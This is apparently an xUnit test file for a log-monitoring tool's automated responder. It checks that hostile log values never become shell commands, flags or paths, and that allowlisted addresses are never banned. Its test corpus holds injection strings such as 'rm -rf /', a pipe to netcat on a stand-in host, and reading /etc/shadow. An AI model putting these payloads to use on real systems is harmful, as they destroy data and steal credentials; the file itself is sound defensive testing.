using System.Net;
using System.Text.RegularExpressions;
using LogWarden.Config;
using LogWarden.Detect;
using LogWarden.Respond;
using LogWarden.Store;

namespace LogWarden.Tests.Respond;

/// <summary>
/// The bar of issue 9: entity values from hostile log lines never become a command, a flag or a path, and
/// allowlisted addresses are never banned. Every command is recorded (argv) and checked against the shapes
/// the typed actions build.
/// </summary>
public sealed partial class HostileInputTests
{
    private const string Script = "/usr/local/lib/logwarden/notify-admin";

    /// <summary>What attackers put where an address, a user or a unit is expected.</summary>
    private static readonly string[] Corpus =
    [
        "1.2.3.4; rm -rf /", "1.2.3.4 && reboot", "1.2.3.4|nc evil 4444", "$(reboot)", "`id`", "1.2.3.4`id`", "${IFS}cat${IFS}/etc/shadow",
        "--help", "-h", "--flush", "-f /etc/passwd", "--output=/etc/cron.d/x", "../../../../etc/passwd", "/etc/shadow", "..%2f..%2fetc",
        "1.2.3.4\nflush ruleset", "1.2.3.4\r\nadd rule", "1.2.3.4 }; flush ruleset; {", "1.2.3.4 timeout 999d", "1.2.3.4/0", "0.0.0.0/0", "::/0",
        "fe80::1%eth0", "fe80::1%25eth0", "fe80::1%0", "[::1]", "1.2.3.4:22", new string('9', 10_000), new string('a', 300) + ".service",
        "127.0.0.1", "127.0.0.2", "::1", "::ffff:127.0.0.1", "0:0:0:0:0:ffff:7f00:1", "127.000.000.001", "0x7f.0.0.1", "2130706433",
        "192.0.2.10", "::ffff:192.0.2.10", "192.0.2.0/24", "192.0.0.0/8", "198.51.100.7", "nginx.service; reboot", "-nginx.service",
        "nginx.service --now", "../../x.service", "nginx@a@b.service", "root\n", "root; id", "r\0ot", "224.0.0.1", "255.255.255.255", "ff02::1",
    ];

    private static RespondConfig Config() => new()
    {
        Enabled = true,
        DryRun = false,
        AdminCidrs = [IPNetwork.Parse("192.0.2.0/24")],
        Units = ["nginx.service"],
        Scripts = new Dictionary<string, string> { ["notify-admin"] = Script },
        RateLimit = 100_000,
        RestartBudget = 100_000,
        Playbooks =
        [
            new PlaybookConfig
            {
                Name = "everything",
                Match = ["kind=hostile"],
                Actions =
                [
                    new PlaybookActionConfig { Type = "ban" },
                    new PlaybookActionConfig { Type = "restart-unit", Unit = "{unit}" },
                    new PlaybookActionConfig { Type = "run-script", Script = "notify-admin", Args = ["--ip", "{ip}", "--user", "{user}", "{incident}"] },
                ],
            },
        ],
    };

    [Fact]
    public async Task Hostile_entity_values_run_no_command_outside_the_typed_actions_and_ban_no_allowlisted_address()
    {
        var runner = new RecordingCommandRunner();
        IPAddress hostAddress = IPAddress.Parse("198.51.100.7");
        using var rig = new RespondRig(Config(), runner, liveAllowlisted: [hostAddress]);
        int steps = 0;
        foreach (string value in Corpus)
        {
            // Each value in every entity slot, alone (so that a valid neighbour cannot mask a refusal).
            var incident = RespondRig.Incident("hostile", FindingSeverity.Critical, ("ip", value), ("user", value), ("unit", value));
            steps += (await rig.Responder.RespondAsync(incident, CancellationToken.None)).Count;
        }

        Assert.True(steps >= Corpus.Length * 3);
        // No hostile value was banned (each is malformed, too wide or allowlisted); the script may still be told of a valid address.
        Assert.DoesNotContain(runner.Commands, c => c.Executable == "/usr/sbin/nft" && c.Arguments[1] == "element");

        // A control incident with valid values runs every typed action, and its commands pass the same checks.
        await rig.Responder.RespondAsync(RespondRig.Incident("hostile", FindingSeverity.Critical, ("ip", "203.0.113.9"), ("user", "bob"), ("unit", "nginx.service")), CancellationToken.None);
        IReadOnlyList<ExternalCommand> commands = runner.Commands;
        Assert.Contains(commands, c => c.Executable == "/usr/sbin/nft" && c.Arguments[1] == "element");
        Assert.Contains(commands, c => c.Executable == "/usr/bin/systemctl");
        Assert.Contains(commands, c => c.Executable == Script);
        var allowlist = new BanAllowlist(Config().AdminCidrs, () => [hostAddress]);
        foreach (ExternalCommand c in commands)
        {
            string argv = string.Join(' ', c.Arguments);
            Assert.True(c.Executable is "/usr/sbin/nft" or "/usr/bin/systemctl" or Script, "unexpected program: " + c);
            Assert.DoesNotContain(c.Arguments, a => a.Any(char.IsControl) || a.Length > 64);
            if (c.Executable == "/usr/sbin/nft" && c.Arguments[0] == "add" && c.Arguments[1] == "element")
            {
                Assert.Matches(NftBan(), argv);
                var banned = IPNetwork.Parse(c.Arguments[6]);
                Assert.Null(allowlist.Refusal(banned));
            }
            else if (c.Executable == "/usr/bin/systemctl")
            {
                Assert.True(argv is "restart -- nginx.service" or "reset-failed -- nginx.service", argv);
            }
            else if (c.Executable == Script)
            {
                Assert.Matches(ScriptArgv(), argv);
            }
        }
        Assert.All(rig.Audit.CurrentBans(DateTimeOffset.UtcNow), b => Assert.Null(allowlist.Refusal(IPNetwork.Parse(b.Network))));
        Assert.DoesNotContain(rig.Audit.CurrentBans(DateTimeOffset.UtcNow), b => b.Network.StartsWith("127.", StringComparison.Ordinal) || b.Network.StartsWith("192.0.2.", StringComparison.Ordinal));
    }

    [GeneratedRegex(@"^add element inet logwarden ban[46] \{ [0-9a-f:.]+/\d{1,3} timeout \d+s \}$")]
    private static partial Regex NftBan();

    [GeneratedRegex(@"^--ip [0-9a-f:.]+ --user [a-zA-Z0-9_][a-zA-Z0-9_.-]* \d+$")]
    private static partial Regex ScriptArgv();

    [Theory]
    [InlineData("203.0.113.9", 64, "203.0.113.9/32")]
    [InlineData("::ffff:203.0.113.9", 64, "203.0.113.9/32")]
    [InlineData("2001:db8:1:2:3:4:5:6", 64, "2001:db8:1:2::/64")]
    [InlineData("2001:db8:1:2:3:4:5:6", 128, "2001:db8:1:2:3:4:5:6/128")]
    [InlineData("203.0.113.77/24", 64, "203.0.113.0/24")]
    public void Addresses_become_canonical_networks(string text, int ipv6Prefix, string expected)
    {
        Assert.Equal(expected, EntityValues.Canonical(EntityValues.BanNetwork(text, ipv6Prefix, out _)!.Value));
    }

    [Theory]
    [InlineData("fe80::1%eth0")]
    [InlineData("1.2.3.4 ")]
    [InlineData("0.0.0.0")]
    [InlineData("10.0.0.0/7")]
    [InlineData("-1.2.3.4")]
    [InlineData("16909060")]
    [InlineData("127.1")]
    public void Unsafe_addresses_are_refused(string text)
    {
        Assert.Null(EntityValues.BanNetwork(text, 64, out string? why));
        Assert.NotNull(why);
    }

    [Theory]
    [InlineData("nginx.service", true)]
    [InlineData("getty@tty1.service", true)]
    [InlineData("-nginx.service", false)]
    [InlineData("nginx", false)]
    [InlineData("nginx.service;id", false)]
    [InlineData("../nginx.service", false)]
    public void Unit_names_follow_systemds_grammar(string text, bool valid)
    {
        Assert.Equal(valid, EntityValues.UnitName(text) is not null);
    }

    [Fact]
    public async Task An_allowlisted_range_a_current_ssh_client_and_loopback_are_never_banned_even_in_dry_run()
    {
        var runner = new RecordingCommandRunner();
        using var rig = new RespondRig(Config() with { DryRun = true }, runner, liveAllowlisted: [IPAddress.Parse("203.0.113.50")]);
        var steps = await rig.Responder.RespondAsync(
            RespondRig.Incident("hostile", FindingSeverity.Critical, ("ip", "192.0.2.1"), ("ip", "203.0.113.50"), ("ip", "::ffff:127.0.0.1"), ("ip", "203.0.113.0/24")),
            CancellationToken.None);
        Assert.All(steps.Where(s => s.Action == "ban"), s => Assert.Equal(ResponseResults.Refused, s.Result));
        Assert.Empty(runner.Commands);
    }

    [Fact]
    public async Task Dry_run_records_what_would_run_and_runs_nothing()
    {
        var runner = new RecordingCommandRunner();
        using var rig = new RespondRig(Config() with { DryRun = true }, runner);
        var steps = await rig.Responder.RespondAsync(RespondRig.Incident("hostile", FindingSeverity.Critical, ("ip", "203.0.113.9"), ("unit", "nginx.service"), ("user", "bob")), CancellationToken.None);

        Assert.Empty(runner.Commands);
        Assert.Equal(3, steps.Count);
        Assert.All(steps, s => Assert.Equal(ResponseResults.DryRun, s.Result));
        Assert.Contains("/usr/sbin/nft add element inet logwarden ban4 '{' 203.0.113.9/32 timeout 3600s '}'", steps[0].Arguments, StringComparison.Ordinal);
        Assert.Equal(3, rig.Audit.ListActions(10).Count);
        Assert.Empty(rig.Audit.CurrentBans(DateTimeOffset.UtcNow));
    }

    [Fact]
    public async Task The_kill_switch_and_the_rate_limit_refuse_actions_and_say_so()
    {
        var runner = new RecordingCommandRunner();
        using var rig = new RespondRig(Config() with { RateLimit = 2 }, runner);
        File.WriteAllText(rig.Config.KillSwitch, "");
        var killed = await rig.Responder.RespondAsync(RespondRig.Incident("hostile", FindingSeverity.Critical, ("ip", "203.0.113.9")), CancellationToken.None);
        Assert.Contains(killed, s => s.Action == "ban" && s.Result == ResponseResults.Refused && s.Output.Contains("kill switch", StringComparison.Ordinal));
        Assert.Empty(runner.Commands);

        File.Delete(rig.Config.KillSwitch);
        var limited = await rig.Responder.RespondAsync(RespondRig.Incident("hostile", FindingSeverity.Critical, ("ip", "203.0.113.10"), ("ip", "203.0.113.11"), ("ip", "203.0.113.12")), CancellationToken.None);
        Assert.Equal([ResponseResults.Ok, ResponseResults.Ok, ResponseResults.Refused], limited.Where(s => s.Action == "ban").Select(s => s.Result));
    }

    [Fact]
    public async Task Restarts_stop_when_the_budget_is_spent()
    {
        var runner = new RecordingCommandRunner();
        using var rig = new RespondRig(Config() with { RestartBudget = 2 }, runner);
        var results = new List<string>();
        for (int i = 0; i < 3; i++)
        {
            var steps = await rig.Responder.RespondAsync(RespondRig.Incident("hostile", FindingSeverity.Critical, ("unit", "nginx.service")), CancellationToken.None);
            results.Add(steps.Single(s => s.Action == "restart-unit").Result);
        }
        Assert.Equal([ResponseResults.Ok, ResponseResults.Ok, ResponseResults.Refused], results);
        Assert.Equal(
            ["/usr/bin/systemctl reset-failed -- nginx.service", "/usr/bin/systemctl restart -- nginx.service"],
            runner.Commands.Take(2).Select(c => c.ToString()));
    }
}
